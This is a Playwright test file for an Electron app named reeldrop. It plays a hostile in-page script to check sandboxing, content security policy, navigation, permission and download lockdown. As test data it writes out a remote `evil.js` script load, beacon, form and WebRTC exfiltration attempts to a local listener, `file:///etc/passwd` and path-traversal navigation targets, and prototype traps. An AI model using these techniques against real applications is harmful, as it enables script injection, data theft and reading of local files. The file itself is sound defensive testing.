/**
 * Tries to break out of the window, one way a test, as a script that somehow got into its page would. What each of them
 * proves is listed in SECURITY.md. All share one app.
 */
import { expect, test } from '@playwright/test'
import { allRefused, attackApp, expectViolations } from './attacked-app.ts'
import { ANSWERED_MS, tried } from './attempts.ts'
import { newFolder, removeFolder } from './launch.ts'
import { readdir } from 'node:fs/promises'

const running = attackApp()

test('the page is sandboxed and isolated, has no Node, and cannot change or look behind its bridge', async () => {
  const preferences = await running.app.evaluate(({ webContents }) => {
    const [contents] = webContents.getAllWebContents()
    return (contents as unknown as { getLastWebPreferences(): object }).getLastWebPreferences()
  })
  expect(preferences).toMatchObject({ sandbox: true, contextIsolation: true, nodeIntegration: false })
  const found = await running.page.evaluate(async () => {
    const reached: unknown[] = []
    const globals = ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', '__dirname']
    // What a page could trap in a preload that shared its world.
    const traps = [Map.prototype, Array.prototype, Function.prototype] as unknown as Record<string, unknown>[]
    const names = ['get', 'push', 'call']
    const real = traps.map((prototype, at) => prototype[names[at] ?? ''])
    for (const [at, prototype] of traps.entries()) {
      const original = real[at] as (...args: unknown[]) => unknown
      prototype[names[at] ?? ''] = function (this: unknown, ...args: unknown[]) {
        if (typeof this === 'object' && this !== null && 'invoke' in this) reached.push('ipcRenderer')
        return Reflect.apply(original, this, args)
      }
    }
    const own = () => window.reeldrop as unknown as Record<string, unknown>
    const bridge = own()
    const before = bridge['call']
    let changed = 0
    for (const change of [
      () => (bridge['call'] = () => 'mine'),
      () => delete bridge['call'],
      () => Object.assign(window, { reeldrop: {} }),
      () => Object.defineProperty(window, 'reeldrop', { value: {} }),
    ]) {
      try {
        change()
      } catch {
        // Frozen, as it should be.
      }
      if (own() !== bridge || bridge['call'] !== before) changed += 1
    }
    const works = (await window.reeldrop.call('keyStatus', {})).ok
    for (const [at, prototype] of traps.entries()) prototype[names[at] ?? ''] = real[at]
    return {
      globals: globals.filter((name) => name in window),
      bridge: Object.keys(window.reeldrop).sort(),
      reached,
      changed,
      works,
    }
  })
  expect(found).toEqual({
    globals: [],
    bridge: ['call', 'dropped', 'on', 'platform'],
    reached: [],
    changed: 0,
    works: true,
  })
})

test('no script that is not our own file runs: inline, handler, eval, data, blob, remote, worker', async () => {
  await expectViolations(running.page, ['require-trusted-types-for', 'script-src-elem'], () =>
    running.page.evaluate((address) => {
      // Later, as whatever a debugger runs itself may use eval.
      setTimeout(() => {
        const attempt = (work: () => unknown) => {
          try {
            work()
          } catch {
            // Refused; whether it ran shows in `injected`.
          }
        }
        const code = 'window.injected = true'
        const script = (change: (script: HTMLScriptElement) => void) =>
          attempt(() => {
            const element = document.createElement('script')
            change(element)
            document.head.append(element)
          })
        script((element) => element.append(code))
        script((element) => (element.src = `data:text/javascript,${code}`))
        script((element) => (element.src = URL.createObjectURL(new Blob([code]))))
        script((element) => (element.src = `http://${address}/evil.js`))
        attempt(() => (0, eval)(code))
        attempt(() => (Reflect.construct(Function, [code]) as () => void)())
        attempt(() => Reflect.apply(setTimeout, window, [code]) as unknown)
        attempt(() => new Worker(URL.createObjectURL(new Blob([code]))))
        attempt(() => void import(`data:text/javascript,${code}`).catch(() => undefined))
        const image = document.createElement('img')
        image.setAttribute('onerror', code)
        image.src = 'app://reeldrop/none.png'
        document.body.append(image)
        const link = document.createElement('a')
        link.setAttribute('href', `javascript:${code}`)
        document.body.append(link)
        link.click()
        image.setAttribute('onclick', code)
        image.click()
      })
    }, running.ear.address),
  )
})

test('text never becomes markup, whichever way the page is given it', async () => {
  const made = await running.page.evaluate(() => {
    const text = '<img src=x data-evil><svg data-evil></svg>'
    const host = document.createElement('div')
    document.body.append(host)
    const ways = [
      () => (host.innerHTML = text),
      () => (host.outerHTML = text),
      () => host.insertAdjacentHTML('beforeend', text),
      () => document.write(text),
      () => host.append(document.createRange().createContextualFragment(text)),
      () => host.append(new DOMParser().parseFromString(text, 'text/html').body),
    ]
    const refused = ways.filter((way) => {
      try {
        way()
        return false
      } catch {
        return true
      }
    })
    const evil = document.querySelectorAll('[data-evil]').length
    host.remove()
    return { ways: ways.length, refused: refused.length, evil }
  })
  expect(made).toEqual({ ways: 6, refused: 6, evil: 0 })
})

test('the page reaches nothing outside of the app: no request, image, style, font, frame, form or beacon', async () => {
  const ways = ['fetch', 'xhr', 'socket', 'eventSource']
  expect(await tried(running, ways, ANSWERED_MS)).toEqual(allRefused(ways))
  const directives = [
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'style-src-attr',
    'style-src-elem',
  ]
  await expectViolations(running.page, directives, () =>
    running.page.evaluate((to) => {
      navigator.sendBeacon(to, 'x')
      const add = (tag: string, attributes: Record<string, string>) => {
        const element = document.createElement(tag)
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        element.classList.add('attack')
        document.body.append(element)
        return element
      }
      add('img', { src: `${to}a.png` })
      add('video', { src: `${to}a.mp4` })
      add('link', { rel: 'stylesheet', href: `${to}a.css` })
      add('link', { rel: 'prefetch', href: `${to}a` })
      add('link', { rel: 'preconnect', href: to })
      add('link', { rel: 'manifest', href: `${to}m.json` })
      add('iframe', { src: to })
      add('div', { style: `background: url(${to}b.png)` })
      const form = add('form', { action: to, method: 'post' }) as HTMLFormElement
      form.submit()
    }, `http://${running.ear.address}/`),
  )
  await running.page.evaluate(() => {
    for (const element of document.querySelectorAll('.attack')) element.remove()
  })
})

test('WebRTC, which no content security policy covers, sends nothing either', async () => {
  const candidates = await running.page.evaluate(async (address) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${address}` }] })
    const found: string[] = []
    peer.onicecandidate = ({ candidate }) => candidate && found.push(candidate.candidate)
    peer.createDataChannel('out')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise((done) => setTimeout(done, 1500))
    peer.close()
    return found.filter((candidate) => / udp /i.test(candidate))
  }, running.ear.address)
  expect(candidates).toEqual([])
})

test('the window cannot be led away: by address, link, middle click, form, history or file', async () => {
  const targets = [
    `http://${running.ear.address}/`,
    'https://example.org/',
    'file:///etc/passwd',
    'data:text/html,hello',
    'app://reeldrop/../package.json',
    'app://other/index.html',
    'reeldrop-thumb://x/poster',
    'chrome://gpu',
    'devtools://devtools/bundled/inspector.html',
  ]
  const led: string[] = []
  await running.page.evaluate(() => Object.assign(window, { here: true }))
  for (const target of targets) {
    const attempt = running.page.evaluate((to) => {
      const ways = [
        () => (window.location.href = to),
        () => window.location.replace(to),
        () => window.open(to),
        () => window.open(to, '_self'),
        () => window.open(to, '_top'),
      ]
      for (const way of ways) {
        try {
          way()
        } catch {
          // Some addresses are refused at once.
        }
      }
    }, target)
    await attempt.catch(() => led.push(target))
    await running.page.waitForTimeout(100)
    if (!(await running.page.evaluate(() => 'here' in window))) led.push(target)
    await running.page.evaluate(() => Object.assign(window, { here: true }))
  }
  expect(led).toEqual([])
  for (const attributes of [{}, { target: '_blank' }, { target: '_top' }]) {
    const link = await running.page.evaluateHandle(
      ([to, more]) => {
        const element = document.createElement('a')
        element.href = to
        Object.assign(element, more)
        element.textContent = 'away'
        element.style.position = 'fixed'
        element.style.inset = '0 auto auto 0'
        element.style.zIndex = '1000'
        document.body.append(element)
        return element
      },
      [`http://${running.ear.address}/`, attributes] as const,
    )
    const { mouse, keyboard } = running.page
    await mouse.click(8, 8)
    await mouse.click(8, 8, { button: 'middle' })
    for (const key of ['Shift', 'ControlOrMeta']) {
      await keyboard.down(key)
      await mouse.click(8, 8)
      await keyboard.up(key)
    }
    await running.page.waitForTimeout(100)
    await link.evaluate((element) => element.remove())
  }
  await running.page.waitForTimeout(500)
  expect(running.app.windows()).toHaveLength(1)
})

test('a page that blanks itself gets no answer from main and is brought back', async () => {
  const { page } = running
  const asked = page.evaluate(() => {
    const bridge = window.reeldrop
    window.location.href = 'about:blank'
    return new Promise((done) => setTimeout(() => done(bridge.call('getSettings', {})), 50))
  })
  await asked.catch(() => undefined)
  await expect.poll(() => page.url()).toBe('app://reeldrop/index.html')
  await expect(page.getByText('Try it without a key')).toBeVisible()
})

test('a webview stays an empty element, and a frame gets no bridge', async () => {
  const inside = await running.page.evaluate(async () => {
    const view = document.createElement('webview')
    view.setAttribute('src', 'https://example.org/')
    view.setAttribute('nodeintegration', '')
    const frame = document.createElement('iframe')
    document.body.append(view, frame)
    await new Promise((done) => setTimeout(done, 300))
    const found = {
      view: 'getWebContentsId' in view,
      bridge: frame.contentWindow ? 'reeldrop' in frame.contentWindow : false,
      node: frame.contentWindow ? 'require' in frame.contentWindow : false,
    }
    view.remove()
    frame.remove()
    return found
  })
  expect(inside).toEqual({ view: false, bridge: false, node: false })
})

test('every permission and every device is refused', async () => {
  const names = [
    'geolocation',
    'notifications',
    'camera',
    'screen',
    'midi',
    'clipboard',
    'pointerLock',
    'fullscreen',
    'wakeLock',
    'storage',
    'usb',
    'serial',
    'hid',
    'bluetooth',
  ]
  const outcomes = await tried(running, names)
  expect(Object.entries(outcomes).filter(([, outcome]) => outcome === 'allowed')).toEqual([])
  expect(Object.keys(outcomes)).toEqual(names)
  expect(await running.page.evaluate(() => document.fullscreenElement)).toBeNull()
  const states = await running.page.evaluate(() =>
    Promise.all(
      [
        'geolocation',
        'notifications',
        'camera',
        'microphone',
        'midi',
        'clipboard-read',
        'persistent-storage',
      ].map(async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state),
    ),
  )
  expect(new Set(states)).toEqual(new Set(['denied']))
})

test('nothing is downloaded', async () => {
  const target = await newFolder('downloads')
  await running.app.evaluate(({ app: main, session }, folder) => {
    main.setPath('downloads', folder)
    const seen: string[] = []
    session.defaultSession.on('will-download', (event, item) => {
      seen.push(`${item.getFilename()} ${event.defaultPrevented ? 'refused' : 'let through'}`)
    })
    Object.assign(globalThis, { seen })
  }, target)
  await running.page.evaluate(() => {
    const link = document.createElement('a')
    link.href = URL.createObjectURL(new Blob(['MZ']))
    link.download = 'setup.exe'
    document.body.append(link)
    link.click()
    link.remove()
  })
  const seen = () => running.app.evaluate(() => (globalThis as unknown as { seen: string[] }).seen)
  await expect.poll(seen).toEqual(['setup.exe refused'])
  await expect.poll(() => readdir(target)).toEqual([])
  await removeFolder(target)
})
